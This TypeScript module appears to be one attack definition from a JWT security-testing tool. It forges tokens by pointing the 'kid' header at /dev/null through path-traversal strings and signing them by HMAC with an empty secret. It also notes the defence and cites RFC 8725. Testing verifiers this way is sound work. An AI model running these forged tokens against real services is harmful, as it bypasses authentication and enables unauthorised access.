import type { Forging } from './attack';
import { cannot, signatureChange, withOriginal } from './parts';
import { hmacName, signedWithSecret } from './with-secret';

const EMPTY_FILES = ['../../../../../../../../dev/null', '/dev/null', '..\\..\\..\\..\\..\\..\\..\\..\\nul'] as const;

export const kidPath: Forging = {
  changes: 'Sets "kid" to a path that leads to an empty file, and signs by HMAC with an empty secret.',
  why: 'A verifier that reads the key from a file named by "kid" can be led out of its folder, to a file whose content is known.',
  stops: 'Looking the kid up in a table of known keys. Never as a part of a path, and no empty secrets.',
  source: 'RFC 8725 §3.10',
  needs: ['hmac'],
  forge(token, tools) {
    const { hmac } = tools;
    if (!hmac) return cannot('HMAC is needed.');
    return withOriginal(token, (original) => {
      const alg = hmacName(original.header['alg']);
      const forge = (kid: string) => signedWithSecret(original, tools, hmac, { alg, kid }, new Uint8Array(0));
      const [first, ...others] = EMPTY_FILES;
      const best = forge(first);
      return {
        ok: true,
        tokens: [best.token, ...others.map((kid) => forge(kid).token)],
        changes: [...best.changes, signatureChange('HMAC with an empty secret')],
      };
    });
  },
};
